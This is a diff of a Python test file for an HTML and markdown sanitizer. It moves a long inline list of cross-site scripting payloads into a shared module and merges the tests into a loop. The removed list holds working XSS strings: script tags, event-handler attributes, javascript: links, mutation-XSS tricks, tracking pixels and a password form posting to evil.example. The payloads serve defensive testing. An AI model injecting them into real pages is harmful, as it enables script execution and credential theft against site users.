@@ -5,72 +5,7 @@ from hypothesis import given, settings
 from hypothesis import strategies as st
 
 from generation.llm_tools.sanitize import TAGS, attribute_value, inline_markdown, is_safe_link, sanitize
-
-PAYLOADS = [
-    "<script>alert(1)</script>",
-    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
-    "<scr<script></script>ipt>alert(1)</scr</script>ipt>",
-    "<script>alert(1)",
-    "<style>body{background:url(https://evil.example/t.gif)}</style>",
-    "<style><img src=x onerror=alert(1)></style>",
-    "<template><script>alert(1)</script></template>",
-    "<img src=x onerror=alert(1)>",
-    "<img src='https://evil.example/pixel.gif'>",
-    "<svg onload=alert(1)>",
-    "<svg><script>alert(1)</script></svg>",
-    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
-    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
-    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
-    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
-    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
-    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
-    "<iframe src=javascript:alert(1)>",
-    "<object data='data:text/html,<script>alert(1)</script>'></object>",
-    "<embed src=https://evil.example/x.swf>",
-    "<a href='javascript:alert(1)'>x</a>",
-    "<a href='java\nscript:alert(1)'>x</a>",
-    "<a href=' &#106;avascript:alert(1)'>x</a>",
-    "<a href='javascript:1'>x</a>",
-    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
-    "<a href='vbscript:msgbox(1)'>x</a>",
-    "<a href='//evil.example'>x</a>",
-    "<a href='/\\evil.example'>x</a>",
-    "<a href='https:evil.example'>x</a>",
-    "<a href='http://plain.example'>x</a>",
-    "<a href='https://good.example@evil.example'>x</a>",
-    "<a href='https://{{ host }}.example'>x</a>",
-    "<a href='{{ evil }}'>x</a>",
-    "<a href='{{ unsubscribe_url }}//evil.example'>x</a>",
-    "<a href='https://ok.example' onclick=alert(1) style='position:fixed' target=_top>x</a>",
-    "<p onmouseover=alert(1) style='background:url(https://evil.example)'>x</p>",
-    "<base href='https://evil.example/'>",
-    "<link rel=stylesheet href=https://evil.example/x.css>",
-    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
-    "<form action=https://evil.example><input name=password><button>Send</button></form>",
-    "<body background=https://evil.example/x.gif onload=alert(1)>",
-    "<table background=https://evil.example/x.gif><tr><td>x</td></tr></table>",
-    "<video src=https://evil.example/x.mp4 onerror=alert(1)></video>",
-    "<!--[if mso]><script>alert(1)</script><![endif]-->",
-    "<!-- --!><img src=x onerror=alert(1)>",
-    "<![CDATA[<img src=x onerror=alert(1)>]]>",
-    "<?php echo 1 ?><img src=x onerror=alert(1)>",
-    "<xmp><img src=x onerror=alert(1)></xmp>",
-    "<plaintext><img src=x onerror=alert(1)>",
-    "<textarea></textarea><img src=x onerror=alert(1)></textarea>",
-    '"><img src=x onerror=alert(1)>',
-    "'><svg/onload=alert(1)>",
-    "</title><script>alert(1)</script>",
-    "</p></td></table></body></html><script>alert(1)</script>",
-    "<a\u200b href='javascript:alert(1)'>x</a>",
-    "[x](javascript:alert(1))",
-    '[x](https://evil.example" onmouseover="alert(1))',
-    "![x](https://evil.example/pixel.gif)",
-    "<https://evil.example/>",
-    "[x]: javascript:alert(1)\n\n[x]",
-    "]]><script>alert(1)</script>",
-    "</mj-text><mj-raw><script>alert(1)</script></mj-raw>",
-    "[[body]][[unsubscribe_url]]",
-]
+from tests.payloads import ALL
 
 
 class Reader(HTMLParser):
@@ -93,19 +28,14 @@ def read(html: str) -> Reader:
     return reader
 
 
-@pytest.mark.parametrize("payload", PAYLOADS)
 @pytest.mark.parametrize("clean", [sanitize, inline_markdown])
-def test_nothing_that_acts_survives(payload, clean):
-    reader = read(clean(f"before {payload} after"))
+def test_only_harmless_tags_and_safe_links_survive(clean):
+    for payload in ALL:
+        reader = read(clean(f"before {payload} after"))
 
-    assert set(reader.tags) <= TAGS
-    assert {(tag, name) for tag, name, _value in reader.attributes} <= {("a", "href"), ("ol", "start")}
-    assert all(is_safe_link(value) for tag, _name, value in reader.attributes if tag == "a")
-
-
-@pytest.mark.parametrize("payload", PAYLOADS)
-def test_cleaning_a_payload_twice_changes_nothing(payload):
-    assert sanitize(sanitize(payload)) == sanitize(payload)
+        assert set(reader.tags) <= TAGS
+        assert {(tag, name) for tag, name, _value in reader.attributes} <= {("a", "href"), ("ol", "start")}
+        assert all(is_safe_link(value) for tag, _name, value in reader.attributes if tag == "a")
 
 
 markup = st.lists(
